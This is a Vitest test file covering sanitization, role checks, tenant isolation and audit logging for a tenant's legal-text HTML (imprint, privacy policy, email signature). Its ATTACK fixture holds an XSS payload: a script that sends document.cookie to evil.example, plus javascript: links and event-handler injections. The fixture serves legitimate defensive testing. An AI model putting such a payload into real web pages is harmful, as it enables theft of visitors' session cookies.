import { describe, expect, it } from "vitest";
import { AccessDeniedError } from "@/lib/data/context/access-error";
import { getLegalTexts } from "@/lib/data/legal/get-legal-texts";
import { updateLegalTexts } from "@/lib/data/legal/update-legal-texts";
import { db } from "@/lib/db/client";
import { MAX_LEGAL_HTML } from "@/lib/validation/legal-texts";
import { createCustomer, createCustomerUser, createStaff, createTenant } from "../setup/factories";
import { contextFor } from "../setup/request-context";

const ATTACK =
  '<p onclick="steal()">Muster Versicherungsmakler GmbH</p><script>fetch("https://evil.example/?c="+document.cookie)</script>' +
  '<p><a href="javascript:alert(1)">Registerauskunft</a> <img src="x" onerror="alert(2)">' +
  '<a href="https://www.vermittlerregister.info" onmouseover="alert(3)">Vermittlerregister</a></p>';

const storedTexts = (tenantId: string) =>
  db.tenant.findUniqueOrThrow({
    where: { id: tenantId },
    select: { imprintHtml: true, privacyHtml: true, emailSignatureHtml: true },
  });

const auditRows = (tenantId: string) =>
  db.auditLog.findMany({ where: { tenantId, action: "tenant.legalTextsChanged" }, orderBy: { id: "asc" } });

async function ownerOffice() {
  const tenant = await createTenant();
  const owner = await createStaff(tenant.id, { role: "owner" });
  return { tenant, owner, ownerCtx: await contextFor(owner.id) };
}

function expectHarmless(html: string | null) {
  expect(html).not.toBeNull();
  for (const bad of ["<script", "javascript:", "onclick", "onerror", "onmouseover", "<img", "steal()", "document.cookie"]) {
    expect(html).not.toContain(bad);
  }
  // the harmless words and the safe link survive, the link opening in a new tab without window access
  expect(html).toContain("<p>Muster Versicherungsmakler GmbH</p>");
  expect(html).toContain("Registerauskunft");
  expect(html).toMatch(
    /<a href="https:\/\/www\.vermittlerregister\.info" target="_blank" rel="[^"]*noopener[^"]*">Vermittlerregister<\/a>/,
  );
}

describe("owner saves imprint, privacy policy and signature", () => {
  it("stores no script, javascript: link or event handler from any of the three texts", async () => {
    const { tenant, ownerCtx } = await ownerOffice();

    const result = await updateLegalTexts(ownerCtx, { imprintHtml: ATTACK, privacyHtml: ATTACK, emailSignatureHtml: ATTACK });

    expect(result).toMatchObject({ ok: true, changed: ["imprintHtml", "privacyHtml", "emailSignatureHtml"] });
    const row = await storedTexts(tenant.id);
    expectHarmless(row.imprintHtml);
    expectHarmless(row.privacyHtml);
    expectHarmless(row.emailSignatureHtml);
    // the dangerous link is not kept as a link without target either: only its words remain
    expect(row.imprintHtml).toContain("<p>Registerauskunft <a href=");
    expect(await getLegalTexts(ownerCtx)).toEqual({
      imprintHtml: row.imprintHtml,
      privacyHtml: row.privacyHtml,
      emailSignatureHtml: row.emailSignatureHtml,
    });
  });

  it("saves one section without touching the others and audits only the changed field names", async () => {
    const { tenant, owner, ownerCtx } = await ownerOffice();
    await db.tenant.update({ where: { id: tenant.id }, data: { privacyHtml: "<p>Alte Erklärung</p>" } });

    const result = await updateLegalTexts(ownerCtx, { emailSignatureHtml: "<p>Mit freundlichen Grüßen<br>Max Muster</p>" });

    expect(result).toMatchObject({ ok: true, changed: ["emailSignatureHtml"] });
    const row = await storedTexts(tenant.id);
    expect(row).toEqual({
      imprintHtml: null,
      privacyHtml: "<p>Alte Erklärung</p>",
      emailSignatureHtml: "<p>Mit freundlichen Grüßen<br />Max Muster</p>",
    });
    const audit = await auditRows(tenant.id);
    expect(audit).toHaveLength(1);
    expect(audit[0]).toMatchObject({ actorUserId: owner.id, entityType: "Tenant", entityId: tenant.id });
    expect(audit[0]?.data).toEqual({ fields: ["emailSignatureHtml"] });
    // names only: none of the text itself is written to the audit log
    expect(JSON.stringify(audit[0]?.data)).not.toContain("Max Muster");
  });

  it("lets an admin save too", async () => {
    const tenant = await createTenant();
    const admin = await createStaff(tenant.id, { role: "admin" });

    expect(await updateLegalTexts(await contextFor(admin.id), { imprintHtml: "<p>Impressum</p>" })).toMatchObject({ ok: true });
    expect((await storedTexts(tenant.id)).imprintHtml).toBe("<p>Impressum</p>");
  });

  it("empties a text when the editor sends its empty state, and writes no audit row for a save without change", async () => {
    const { tenant, ownerCtx } = await ownerOffice();
    await updateLegalTexts(ownerCtx, { imprintHtml: "<p>Impressum</p>" });

    expect(await updateLegalTexts(ownerCtx, { imprintHtml: "<p>Impressum</p>" })).toMatchObject({ ok: true, changed: [] });
    expect(await updateLegalTexts(ownerCtx, { imprintHtml: "<p></p>" })).toMatchObject({
      ok: true,
      changed: ["imprintHtml"],
      stored: { imprintHtml: "" },
    });

    expect((await storedTexts(tenant.id)).imprintHtml).toBeNull();
    expect(await auditRows(tenant.id)).toHaveLength(2);
  });

  it("refuses a text over the length limit and an unknown field, changing nothing", async () => {
    const { tenant, ownerCtx } = await ownerOffice();
    await updateLegalTexts(ownerCtx, { imprintHtml: "<p>Bleibt</p>" });
    const tooLong = `<p>${"x".repeat(MAX_LEGAL_HTML)}</p>`;

    expect(await updateLegalTexts(ownerCtx, { imprintHtml: tooLong })).toEqual({
      ok: false,
      error: "legal.validation.tooLong",
      fieldErrors: { imprintHtml: "legal.validation.tooLong" },
    });
    expect(await updateLegalTexts(ownerCtx, { imprintHtml: "<p>Neu</p>", loginText: "x" })).toMatchObject({ ok: false });

    expect((await storedTexts(tenant.id)).imprintHtml).toBe("<p>Bleibt</p>");
    expect(await auditRows(tenant.id)).toHaveLength(1);
  });
});

describe("who may change the legal texts", () => {
  it.each([
    ["an advisor", "advisor"],
    ["a back-office member", "backoffice"],
  ] as const)("refuses %s and changes nothing", async (_, role) => {
    const tenant = await createTenant({ imprintHtml: "<p>Original</p>" });
    const staff = await createStaff(tenant.id, { role });
    const ctx = await contextFor(staff.id);

    await expect(updateLegalTexts(ctx, { imprintHtml: "<p>Fremd</p>", emailSignatureHtml: "<p>Fremd</p>" })).rejects.toThrow(
      AccessDeniedError,
    );
    await expect(getLegalTexts(ctx)).rejects.toThrow(AccessDeniedError);

    expect(await storedTexts(tenant.id)).toEqual({ imprintHtml: "<p>Original</p>", privacyHtml: null, emailSignatureHtml: null });
    expect(await auditRows(tenant.id)).toHaveLength(0);
  });

  it("refuses a signed-in customer and a request without sign-in", async () => {
    const tenant = await createTenant({ imprintHtml: "<p>Original</p>" });
    const customer = await createCustomer(tenant.id);
    const customerUser = await createCustomerUser(tenant.id, customer.id);

    await expect(updateLegalTexts(await contextFor(customerUser.id), { imprintHtml: "<p>Fremd</p>" })).rejects.toThrow(
      AccessDeniedError,
    );
    await expect(updateLegalTexts(null, { imprintHtml: "<p>Fremd</p>" })).rejects.toThrow(AccessDeniedError);

    expect((await storedTexts(tenant.id)).imprintHtml).toBe("<p>Original</p>");
  });

  it("changes only the owner's own tenant: tenant B's texts stay as they were", async () => {
    const { ownerCtx } = await ownerOffice();
    const other = await createTenant({ imprintHtml: "<p>Impressum B</p>", emailSignatureHtml: "<p>Signatur B</p>" });

    await updateLegalTexts(ownerCtx, { imprintHtml: "<p>Impressum A</p>", emailSignatureHtml: "<p>Signatur A</p>" });

    expect(await storedTexts(other.id)).toEqual({
      imprintHtml: "<p>Impressum B</p>",
      privacyHtml: null,
      emailSignatureHtml: "<p>Signatur B</p>",
    });
    expect(await auditRows(other.id)).toHaveLength(0);
  });
});
